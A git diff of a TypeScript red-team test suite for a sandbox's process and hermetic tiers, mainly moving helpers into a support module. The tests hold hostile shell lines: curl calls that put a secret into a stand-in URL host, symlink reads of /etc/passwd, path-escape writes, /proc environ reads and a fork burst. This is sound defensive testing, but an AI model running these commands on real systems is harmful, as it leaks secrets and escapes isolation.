@@ -10,16 +10,16 @@
  * other test is an attack that held.
  */
 import { execFileSync } from "node:child_process"
-import { existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
+import { existsSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
 import { readFile } from "node:fs/promises"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { domainToASCII } from "node:url"
 import { describe, expect, it } from "@effect/vitest"
-import { Effect, Exit, Fiber, Layer, Redacted, type Scope } from "effect"
+import { Effect, Exit, Fiber, Layer } from "effect"
 import { getCommandNames, getJavaScriptCommandNames, getPythonCommandNames } from "just-bash"
 import { piRefusal } from "../../src/backends/Agents.js"
-import type { PreparedCommand, PreparedExecution } from "../../src/backends/Execution.js"
+import type { PreparedExecution } from "../../src/backends/Execution.js"
 import * as Hermetic from "../../src/backends/Hermetic.js"
 import { truncationMarker } from "../../src/backends/LogCapture.js"
 import type { Attestation } from "../../src/backends/Matrix.js"
@@ -29,8 +29,9 @@ import { runSession } from "../../src/backends/Session.js"
 import type { ReleasedSecret, SessionBackend, SessionResult } from "../../src/backends/SessionBackend.js"
 import * as EgressProxy from "../../src/egress/EgressProxy.js"
 import * as Resolver from "../../src/egress/Resolver.js"
-import type { Dimension, IsolationTier, SecretName } from "../../src/protocol/Ids.js"
+import type { Dimension, IsolationTier } from "../../src/protocol/Ids.js"
 import { httpUpstream } from "../egress/support/ProxyHarness.js"
+import { dead, execution, killLater, literal, released, secretRef, sh, tempDir } from "./support/Sessions.js"
 
 // ---------------------------------------------------------------------------------------------
 // Support
@@ -43,34 +44,11 @@ const processTier: SessionBackend = Effect.runSync(
 const hermeticTier: SessionBackend = Effect.runSync(Hermetic.makeWithResolver.pipe(Effect.provide(Resolver.layerStatic({}))))
 const tiers = { process: processTier, hermetic: hermeticTier } as const
 
-const sh = (script: string): PreparedCommand => ({ kind: "shell", shell: "sh", script })
-
-const execution = (command: PreparedCommand, overrides: Partial<PreparedExecution> = {}): PreparedExecution => ({
-  agent: "command",
-  command,
-  cwd: ".",
-  timeoutMs: 10_000,
-  logMaxBytes: 65_536,
-  env: {},
-  egressProxy: false,
-  network: { defaultDeny: true, allowHosts: [] },
-  ...overrides
-})
-
-const secretRef = (name: string) => ({ _tag: "Secret" as const, secret: name as SecretName })
-const literal = (value: string) => ({ _tag: "Literal" as const, value })
-const released = (name: string, value: string): ReleasedSecret => ({ name, value: Redacted.make(value) })
-
 /** `TOKEN` is the released secret `TOK` with the given value. */
 const withToken = (value: string, overrides: Partial<PreparedExecution> = {}) => ({
   overrides: { ...overrides, env: { TOKEN: secretRef("TOK"), ...overrides.env } },
   secrets: [released("TOK", value)]
 })
-
-const tempDir: Effect.Effect<string, never, Scope.Scope> = Effect.acquireRelease(
-  Effect.sync(() => mkdtempSync(join(tmpdir(), "warrant-redteam-"))),
-  (dir) => Effect.sync(() => rmSync(dir, { recursive: true, force: true }))
-)
 
 const runIn = (
   tier: SessionBackend,
@@ -85,7 +63,7 @@ const run = (
   script: string,
   overrides: Partial<PreparedExecution> = {},
   secrets: ReadonlyArray<ReleasedSecret> = []
-) => Effect.flatMap(tempDir, (workspace) => runIn(tier, workspace, script, overrides, secrets))
+) => Effect.flatMap(tempDir("redteam"), (workspace) => runIn(tier, workspace, script, overrides, secrets))
 
 /** A governed session through `runSession`, on a runner offering both tiers. */
 const governed = (
@@ -106,33 +84,6 @@ const guard = <A, E, R>(effect: Effect.Effect<A, E, R>, what: string, seconds = 
     duration: `${seconds} seconds`,
     onTimeout: () => new Error(`${what} did not happen within ${seconds} s`)
   })
-
-/** Gone, or a zombie (a killed orphan waits for PID 1 to reap it; it runs nothing). */
-const dead = (pid: number): boolean => {
-  try {
-    process.kill(pid, 0)
-  } catch (error) {
-    return (error as NodeJS.ErrnoException).code === "ESRCH"
-  }
-  try {
-    const stat = readFileSync(`/proc/${pid}/stat`, "latin1")
-    return stat.slice(stat.lastIndexOf(")") + 2).startsWith("Z")
-  } catch {
-    return true
-  }
-}
-
-/** Kills, with the scope, a process the session could not reach. */
-const killLater = (pid: number) =>
-  Effect.addFinalizer(() =>
-    Effect.sync(() => {
-      try {
-        process.kill(pid, "SIGKILL")
-      } catch {
-        // already gone
-      }
-    })
-  )
 
 const pidsOf = (text: string) => text.trim().split(/\s+/).filter((w) => w.length > 0).map(Number)
 
@@ -191,7 +142,7 @@ describe("secrets in the log", () => {
 
   it.scopedLive("a secret written to a workspace file stays out of the log (the workspace diff is a later issue's)", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const { overrides, secrets } = withToken(value)
       const result = yield* runIn(hermeticTier, workspace, `printf %s "$TOKEN" > leak.txt; echo done`, overrides, secrets)
       expect(result).toEqual({ exitCode: 0, log: "done\n", truncated: false, timedOut: false, redactions: {}, network: [] })
@@ -346,7 +297,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("process: a lower-case secret in a URL host is redacted from the log and, by runSession, from the records", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const { overrides, secrets } = withToken("lowercase-secret-9", denyAll)
       const outcome = yield* guard(
         governed("process", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets),
@@ -367,7 +318,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("hermetic: a lower-case secret in a URL host is redacted from the log and, by runSession, from the records", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const { overrides, secrets } = withToken("lowercase-secret-9", allowAll)
       const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets)
       expect(outcome.result.log).toBe(
@@ -396,7 +347,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("process: a mixed-case secret in a URL host is redacted from the log and the records in its lower-cased form too", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const mixed = "MiXeD-CaSe-Secret-9"
       const { overrides, secrets } = withToken(mixed, denyAll)
       const outcome = yield* guard(
@@ -409,7 +360,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("hermetic: a mixed-case secret in a URL host is redacted from the log and the records in its lower-cased form too", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const mixed = "MiXeD-CaSe-Secret-9"
       const { overrides, secrets } = withToken(mixed, allowAll)
       const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets)
@@ -419,7 +370,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("hermetic: a non-ASCII secret in a URL host is redacted in its punycode form too", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const unicode = "geheimnis-süß-wert"
       const punycode = domainToASCII(unicode)
       expect(punycode).toBe("xn--geheimnis-s-wert-qlb53c")
@@ -430,7 +381,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("hermetic: a long secret in an unparseable authority, clipped to 100 characters in the record, is still redacted", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const long = "k".repeat(20) + "0123456789".repeat(10)
       const { overrides, secrets } = withToken(long, allowAll)
       const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://x.example:$TOKEN/"`), overrides), workspace, secrets)
@@ -441,7 +392,7 @@ describe("secrets in URLs and network records", () => {
 
   it.scopedLive("hermetic: a secret in an unparseable authority, its punctuation recorded as '?', is still redacted", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const punctuated = "s3cr3t+v4lue!x~y"
       const { overrides, secrets } = withToken(punctuated, allowAll)
       const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://x.example:$TOKEN/"`), overrides), workspace, secrets)
@@ -468,7 +419,7 @@ describe("what the process tier only attests", () => {
 
   it.scopedLive("LIMIT: read and write — a program opens paths outside the workspace", () =>
     Effect.gen(function*() {
-      const root = yield* tempDir
+      const root = yield* tempDir("redteam")
       const workspace = join(root, "ws")
       mkdirSync(workspace)
       writeFileSync(join(root, "outside.txt"), "outside\n")
@@ -530,7 +481,7 @@ describe("host environment", () => {
 describe("secrets across concurrent process-tier sessions", () => {
   it.scopedLive("LIMIT: process: a session can read a concurrent session's released secret from /proc/*/environ (env is only attested here)", () =>
     Effect.gen(function*() {
-      const shared = yield* tempDir
+      const shared = yield* tempDir("redteam")
       const fifo = join(shared, "b-started")
       execFileSync("mkfifo", [fifo])
       const [wsA, wsB] = [join(shared, "a"), join(shared, "b")]
@@ -562,7 +513,7 @@ describe("secrets across concurrent process-tier sessions", () => {
 describe("hermetic filesystem escapes", () => {
   it.scopedLive("ln -s / root; cat root/etc/passwd — symlinks cannot be made", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const result = yield* runIn(hermeticTier, workspace, `ln -s / root; echo "rc=$?"; cat root/etc/passwd 2>&1; ln -s ../.. up; echo "rc=$?"`)
       expect(result.log).toBe(
         "rc=1\ncat: root/etc/passwd: No such file or directory\nrc=1\n" +
@@ -573,7 +524,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("cd .. repeatedly stays at the workspace root", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       writeFileSync(join(workspace, "marker"), "")
       const result = yield* runIn(hermeticTier, workspace, `cd ..; cd ../../..; cd /..; pwd; ls; cd /../../etc 2>&1; echo "rc=$?"`)
       expect(result.log).toBe("/\nmarker\nbash: cd: /../../etc: No such file or directory\nrc=1\n")
@@ -581,7 +532,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("'..' in a redirect lands inside the workspace, never on the host", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const name = `warrant-redteam-pwned-${process.pid}`
       const result = yield* runIn(hermeticTier, workspace, `echo x > ../../tmp/${name}; echo "rc=$?"`)
       expect(result.log).toBe("rc=0\n")
@@ -591,7 +542,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("hard links: a host path cannot be linked in; a host-planted hard link is replaced on write, not written through", () =>
     Effect.gen(function*() {
-      const root = yield* tempDir
+      const root = yield* tempDir("redteam")
       const workspace = join(root, "ws")
       mkdirSync(workspace)
       writeFileSync(join(root, "outside.txt"), "original\n")
@@ -604,7 +555,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("a relative symlink planted on the host (ws/up -> ..) does not lead to the parent", () =>
     Effect.gen(function*() {
-      const root = yield* tempDir
+      const root = yield* tempDir("redteam")
       const workspace = join(root, "ws")
       mkdirSync(workspace)
       writeFileSync(join(root, "sibling.txt"), "SIBLING-CONTENT\n")
@@ -619,7 +570,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("a cwd that is a symlink out of the workspace is refused before anything runs", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       symlinkSync(tmpdir(), join(workspace, "escape"))
       const exit = yield* Effect.exit(runIn(hermeticTier, workspace, "echo ran > ran.txt", { cwd: "escape" }))
       expect(exit).toEqual(Exit.fail(expect.objectContaining({
@@ -650,7 +601,7 @@ describe("hermetic filesystem escapes", () => {
 
   it.scopedLive("sqlite3 cannot open or attach host files: both are empty in-memory databases", () =>
     Effect.gen(function*() {
-      const root = yield* tempDir
+      const root = yield* tempDir("redteam")
       const workspace = join(root, "ws")
       mkdirSync(workspace)
       const attach = `ATTACH DATABASE '../evil.db' AS e`
@@ -798,7 +749,7 @@ describe("nothing hangs the runner", () => {
 describe("process tier: the whole tree is stopped", () => {
   it.scopedLive("a 1 ms timeout: exit 124, timed out, promptly", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const result = yield* guard(runIn(processTier, workspace, "echo $$ > pid; exec sleep 100", { timeoutMs: 1 }), "the session's end", 3)
       expect(result).toMatchObject({ exitCode: 124, timedOut: true })
       if (existsSync(join(workspace, "pid"))) expect(dead(pidsOf(readFileSync(join(workspace, "pid"), "utf8"))[0]!)).toBe(true)
@@ -836,7 +787,7 @@ describe("process tier: the whole tree is stopped", () => {
 
   it.scopedLive("a child that closes stdout and stderr and keeps running is stopped by the timeout", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const result = yield* guard(runIn(processTier, workspace, `echo $$ > pid; exec >&- 2>&-; sleep 100`, { timeoutMs: 300 }), "the session's end")
       expect(result).toEqual({ exitCode: 124, log: "", truncated: false, timedOut: true, redactions: {}, network: [] })
       expect(dead(pidsOf(readFileSync(join(workspace, "pid"), "utf8"))[0]!)).toBe(true)
@@ -844,7 +795,7 @@ describe("process tier: the whole tree is stopped", () => {
 
   it.scopedLive("a bounded fork burst (100 children) and a shell respawning children on SIGTERM are all killed", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const script = [
         `trap 'sleep 100 & echo $! >> pids' TERM`,
         `i=0; while [ $i -lt 100 ]; do sleep 100 & echo $! >> pids; i=$((i+1)); done`,
@@ -882,7 +833,7 @@ describe("process tier: the whole tree is stopped", () => {
 
   it.scopedLive("interruption racing completion, 20 times: every run ends, nothing is left running", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const outcomes: Array<string> = []
       for (let i = 0; i < 20; i++) {
         const fiber = yield* Effect.fork(runIn(processTier, workspace, `sleep 100 & echo $$ $! >> pids; echo hi`))
@@ -915,7 +866,7 @@ describe("20 concurrent sessions per tier", () => {
           Effect.all(
             Array.from({ length: 20 }, (_, i) =>
               Effect.gen(function*() {
-                const workspace = yield* tempDir
+                const workspace = yield* tempDir("redteam")
                 const result = yield* runIn(
                   tier,
                   workspace,
@@ -955,7 +906,7 @@ describe("never on a weaker tier", () => {
   for (const tier of ["process", "hermetic"] as const) {
     it.scopedLive(`${tier}: the pi agent is a CapabilityMismatch, even with a runnable command; nothing runs`, () =>
       Effect.gen(function*() {
-        const workspace = yield* tempDir
+        const workspace = yield* tempDir("redteam")
         const attested: Array<Attestation> = []
         const exit = yield* Effect.exit(governed(tier, touch({ agent: "pi" }), workspace, [], [], (a) => Effect.sync(() => void attested.push(a))))
         expect(exit).toEqual(Exit.fail(expect.objectContaining({ _tag: "CapabilityMismatch", tier, agent: "pi", reason: piRefusal })))
@@ -966,7 +917,7 @@ describe("never on a weaker tier", () => {
 
   it.scopedLive("hermetic: an argv execution is a CapabilityMismatch through runSession; nothing runs", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const exit = yield* Effect.exit(governed("hermetic", execution({ kind: "argv", argv: ["touch", "ran"] }), workspace))
       expect(exit).toEqual(Exit.fail(expect.objectContaining({
         _tag: "CapabilityMismatch",
@@ -979,7 +930,7 @@ describe("never on a weaker tier", () => {
 
   it.scopedLive("process: enforce network (or read, write, env) is SandboxUnenforceable before the attestation and before any side effect", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const attested: Array<Attestation> = []
       const record = (a: Attestation) => Effect.sync(() => void attested.push(a))
       const network = yield* Effect.exit(governed("process", touch({ egressProxy: true }), workspace, [], ["network"], record))
@@ -997,7 +948,7 @@ describe("never on a weaker tier", () => {
 
   it.scopedLive("a tier the runner lacks is a CapabilityMismatch, never a fallback to another tier", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const exit = yield* Effect.exit(governed("namespace", touch(), workspace))
       expect(exit).toEqual(Exit.fail(expect.objectContaining({
         _tag: "CapabilityMismatch",
@@ -1009,7 +960,7 @@ describe("never on a weaker tier", () => {
 
   it.scopedLive("hermetic: every dimension demanded enforced is granted and the run happens in the workspace", () =>
     Effect.gen(function*() {
-      const workspace = yield* tempDir
+      const workspace = yield* tempDir("redteam")
       const outcome = yield* governed("hermetic", touch(), workspace, [], ["read", "write", "network", "env", "command"])
       expect(outcome.attestation.enforce).toEqual(["read", "write", "network", "env", "command"])
       expect(outcome.result.exitCode).toBe(0)
